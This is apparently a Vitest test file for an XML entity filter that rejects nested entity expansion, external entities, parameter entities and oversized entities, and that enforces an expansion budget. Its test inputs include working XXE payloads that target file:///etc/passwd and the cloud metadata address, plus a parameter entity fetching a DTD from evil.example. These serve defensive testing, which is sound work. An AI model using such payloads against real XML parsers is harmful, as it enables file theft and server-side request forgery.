import { describe, expect, it } from 'vitest';
import { ENTITY_EXPANSION_FLOOR, ExpansionBudget, MAX_ENTITY_CHARACTERS, refusedEntities } from '../../../src/sources/common/xml-entities.js';

describe('entities a harvested XML document may declare', () => {
  it('lets plain text entities pass (RDF/XML namespace shorthands)', () => {
    expect(refusedEntities('<!DOCTYPE rdf:RDF [<!ENTITY xsd "http://www.w3.org/2001/XMLSchema#"><!ENTITY dct \'http://purl.org/dc/terms/\'>]>')).toBeUndefined();
    expect(refusedEntities('<!DOCTYPE html>')).toBeUndefined();
  });

  it('refuses entities built from entities, external entities and parameter entities, naming them', () => {
    expect(refusedEntities('<!DOCTYPE r [<!ENTITY a "x"><!ENTITY b "&a;&a;">]>')).toMatch(/entity "b" built from other entities \(entity expansion\)/);
    expect(refusedEntities('<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>')).toMatch(/external entity "xxe" \(XXE\)/);
    expect(refusedEntities('<!DOCTYPE r [<!ENTITY ext PUBLIC "-//x//EN" "http://169.254.169.254/">]>')).toMatch(/external entity "ext"/);
    expect(refusedEntities('<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>')).toMatch(/parameter entity "p"/);
  });

  it('refuses a long entity (quadratic blowup), and reads a quoted value whole, ">" included', () => {
    const long = 'w'.repeat(MAX_ENTITY_CHARACTERS + 1);
    expect(refusedEntities(`<!DOCTYPE r [<!ENTITY tide "${long}">]>`)).toMatch(new RegExp(`entity "tide" of ${MAX_ENTITY_CHARACTERS + 1} characters.*quadratic entity expansion`));
    expect(refusedEntities(`<!DOCTYPE r [<!ENTITY ok "${'w'.repeat(MAX_ENTITY_CHARACTERS)}">]>`)).toBeUndefined();
    // a ">" inside the value used to end the declaration for the check: "&a;" after it went unseen
    expect(refusedEntities('<!DOCTYPE r [<!ENTITY a "x"><!ENTITY b "1>2&a;&a;">]>')).toMatch(/entity "b" built from other entities/);
    expect(refusedEntities("<!DOCTYPE r [<!ENTITY c 'a > b'>]>")).toBeUndefined();
  });
});

describe('the expansion budget of a document', () => {
  it('lets namespace shorthands in every literal pass, refuses many references to an entity under the length limit', () => {
    const xsd = new ExpansionBudget();
    xsd.declare('xsd', 'http://www.w3.org/2001/XMLSchema#');
    const literal = '<dct:issued rdf:datatype="&xsd;date">2024-01-01</dct:issued>';
    for (let i = 0; i < 2_000; i++) expect(xsd.count(literal.repeat(50))).toBeUndefined();

    const wide = new ExpansionBudget();
    wide.declare('w', 'w'.repeat(MAX_ENTITY_CHARACTERS));
    const chunk = '&w;'.repeat(1_000); // 3 KB that add 1 MB
    let refused: string | undefined;
    let chunks = 0;
    while (refused === undefined && chunks < 100) {
      refused = wide.count(chunk);
      chunks++;
    }
    expect(refused).toMatch(/entity references add \d+ characters to a document of \d+ so far \(entity expansion\): refused/);
    expect(chunks * chunk.length * (MAX_ENTITY_CHARACTERS / 3)).toBeLessThan(ENTITY_EXPANSION_FLOOR * 3);
  });
});

